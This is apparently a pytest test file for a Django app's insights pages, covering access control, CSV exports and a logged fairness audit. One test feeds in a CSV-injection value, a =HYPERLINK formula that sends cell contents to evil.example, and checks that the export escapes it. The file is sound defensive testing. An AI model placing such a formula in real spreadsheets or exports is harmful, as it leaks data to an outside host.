"""Insights pages: who may see them, what they show, CSV of every table."""

import csv
import datetime as dt
import io

import numpy as np
import pytest
import time_machine

from liaison.insights.models import AuditRun
from liaison.insights.rollups import rebuild_facts
from liaison.org.models import SensitiveAttributes
from tests.factories import PersonFactory

from .conftest import NOW, bulk_requests

PAIR = "/insights/pairs/offshore-ops/billing/"
PARTNERS = "/insights/teams/billing/"
AUDIT = "/insights/audit/"


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def data(pair):
    rng = np.random.default_rng(1)
    created = [NOW - dt.timedelta(days=int(d), hours=2) for d in rng.integers(3, 300, 80)]
    bulk_requests(service=pair.service, requester=pair.ben, requester_team=pair.billing, created=created,
                  ack_hours=list(rng.exponential(12, 80)), commit_hours=30.0, deliver_hours=120.0,
                  committed_days=[3, 10] * 40, quality=list(rng.integers(2, 6, 80)))
    rebuild_facts(NOW)


def _rows(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode()
                                       if response.streaming else response.content.decode())))


@pytest.mark.parametrize("url", ["/insights/", PARTNERS, PAIR, AUDIT, "/insights/audit/log.csv"])
def test_anonymous_is_sent_to_sign_in(client, pair, url):
    response = client.get(url)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize("url", [PARTNERS, PAIR, PAIR + "scorecard.csv", "/insights/teams/offshore-ops/"])
def test_outsider_gets_404(login, pair, data, url):
    assert login(pair.olga).get(url).status_code == 404


def test_pair_page_shows_both_directions(login, pair, data, django_assert_max_num_queries):
    client = login(pair.ben)
    with django_assert_max_num_queries(40):
        response = client.get(PAIR)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Offshore Ops serving Billing" in html and "Billing serving Offshore Ops" in html
    assert "Time to acknowledge" in html and "95 % interval" in html
    assert "Too few" in html  # Billing serves nobody at Ops
    assert "insights/uPlot.iife.min.js" in html and 'id="chart-data-0"' in html
    assert "Monthly figures, Offshore Ops serving Billing" in html
    assert "Bridges between the teams" in html and "Meeting attendance" in html


def test_pair_csv_exports(login, pair, data):
    client = login(pair.bea)
    scorecard = _rows(client.get(PAIR + "scorecard.csv"))
    assert scorecard[0][:4] == ["direction", "side", "measure", "value"]
    ack = next(r for r in scorecard if r[0] == "Offshore Ops serving Billing" and r[2] == "Time to acknowledge")
    assert float(ack[3]) > 0 and ack[7] == "80"
    monthly = _rows(client.get(PAIR + "monthly.csv"))
    assert monthly[0][:4] == ["direction", "month", "ack", "ack_n"] and len(monthly) == 1 + 2 * 12
    assert client.get(PAIR + "other.csv").status_code == 404


def test_partner_ranking_page_and_csv(login, pair, data, django_assert_max_num_queries):
    client = login(pair.bea)
    with django_assert_max_num_queries(13):  # 12, and the header's unread notification count
        response = client.get(PARTNERS)
    assert response.status_code == 200 and "Offshore Ops" in response.content.decode()
    rows = _rows(client.get(PARTNERS + "?format=csv"))
    assert rows[0][0] == "partner" and rows[1][0] == "Offshore Ops" and rows[1][4] == "80"
    assert login(pair.omar).get("/insights/").status_code == 200


def test_audit_is_refused_to_members(login, member):
    client = login(member)
    assert client.get(AUDIT).status_code == 403
    assert client.post(AUDIT, {"scope": "team:1"}).status_code == 403
    assert client.get("/insights/audit/log.csv").status_code == 403
    assert not AuditRun.objects.exists()


def _attributes(pair):
    people = [PersonFactory(site="Pune") for _ in range(24)]
    SensitiveAttributes.objects.bulk_create(
        [SensitiveAttributes(person=p, gender="woman" if i % 2 else "man") for i, p in enumerate(people)])
    created = [NOW - dt.timedelta(days=10 + i % 90) for i in range(120)]
    bulk_requests(service=pair.service, requester=[people[i % 24] for i in range(120)], requester_team=pair.billing,
                  created=created, ack_hours=[5.0 + i % 7 for i in range(120)])
    rebuild_facts(NOW)


def test_auditor_runs_the_audit_and_it_is_logged(login, pair, auditor):
    _attributes(pair)
    client = login(auditor)
    assert client.get(AUDIT).status_code == 200
    form = {"scope": f"service:{pair.service.pk}", "measure": "ack", "attribute": "gender", "start": "2026-01",
            "end": "2026-06"}
    response = client.post(AUDIT, form)
    html = response.content.decode()
    assert response.status_code == 200 and "Log-rank" in html and "Woman" in html
    assert "Request 1" not in html and pair.ben.name not in html  # no request, no requester
    run = AuditRun.objects.get()
    assert (run.by, run.measure, run.attributes) == (auditor, "ack", "gender")
    rows = _rows(client.post(AUDIT, {**form, "format": "csv"}))
    assert rows[0][:3] == ["attribute", "group", "people"] and {r[1] for r in rows[1:]} == {"Man", "Woman"}
    assert AuditRun.objects.count() == 2
    log = _rows(client.get("/insights/audit/log.csv"))
    assert len(log) == 3 and log[1][1] == auditor.email


def test_audit_bad_input_is_400_naming_the_field(login, pair, auditor):
    response = login(auditor).post(AUDIT, {"scope": f"service:{pair.service.pk}", "measure": "ack",
                                           "attribute": "gender", "start": "2026-06", "end": "2026-01"})
    assert response.status_code == 400 and "The last month comes after the first." in response.content.decode()
    assert not AuditRun.objects.exists()


def test_partner_names_reach_the_csv_as_text_not_formulas(login, pair, data):
    pair.ops.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    pair.ops.save()
    rebuild_facts(NOW)
    rows = _rows(login(pair.bea).get(PARTNERS + "?format=csv"))
    assert rows[1][0] == "'" + pair.ops.name
